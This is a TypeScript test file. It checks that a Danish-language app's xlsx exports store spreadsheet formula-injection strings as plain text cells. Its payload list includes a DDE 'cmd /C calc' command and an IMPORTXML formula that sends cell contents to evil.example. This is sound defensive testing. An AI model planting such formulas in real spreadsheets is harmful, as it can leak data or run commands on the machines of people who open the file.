import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { addTableSheet, newWorkbook, workbookFile } from '../../main/documents/xlsx';
import { call, ctxOf, memoryDb } from '../helpers/db';
import { recordFigure } from './figures';
import { hasControlChars } from '../../preload/contract/common';

const PAYLOADS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example","Klik")', "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', '-2+3', '+45 12 34 56 78', '@Ærø', '=1+1\u0007', '==', '=', '+', '-', '@',
];

async function readBack(base64: string) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(base64, 'base64') as unknown as ExcelJS.Buffer);
  const cells: ExcelJS.Cell[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => void cells.push(c))));
  return cells;
}

const isFormula = (c: ExcelJS.Cell) => c.type === ExcelJS.ValueType.Formula || !!c.formula;

describe('spreadsheet formula injection', () => {
  it('the xlsx helper writes every trigger string as a text cell, exactly as given', async () => {
    const wb = await newWorkbook();
    addTableSheet<string>(wb, 'Test', [{ header: '=Overskrift', width: 20, value: (s) => s }], PAYLOADS, '=Titel');
    const cells = await readBack((await workbookFile(wb, 'x.xlsx')).base64!);
    expect(cells.filter(isFormula)).toEqual([]);
    const texts = cells.map((c) => c.value);
    for (const p of PAYLOADS) expect(texts).toContain(p.replace('\u0007', '').replace('\r', '\n'));
  });

  it('the actor overview export: user text from every field comes back as text, 0 formula cells', async () => {
    const db = await memoryDb();
    const ctx = ctxOf(db);
    // A control character other than tab and line ends is refused at input (one text rule, issue 19), so it never reaches an export.
    const storable = PAYLOADS.filter((p) => !hasControlChars(p));
    let i = 0;
    for (const p of storable) {
      const org = await call(ctx, 'organisations.create', { name: `${p} org ${i}`, kind: 'company', relationReason: p, relation: 'adhoc' });
      await call(ctx, 'people.create', { name: p.trim() || `navn ${i}`, title: p, organisationId: org.id });
      await call(ctx, 'organisations.create', { name: p.trim() || `tom ${i}`, kind: 'ngo' });
      i++;
    }
    const file = await call(ctx, 'actors.exportOverview', {});
    const cells = await readBack(file.base64!);
    const formulas = cells.filter(isFormula);
    const triggerCells = cells.filter((c) => typeof c.value === 'string' && /^[=+\-@]/.test(c.value));
    await db.close();
    recordFigure('Formula injection in xlsx exports', cells.length, formulas.length, `${triggerCells.length} cells start with = + - @, all text`);
    expect(triggerCells.length).toBeGreaterThanOrEqual(storable.length * 2);
    expect(triggerCells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    expect(formulas).toEqual([]);
  });
});
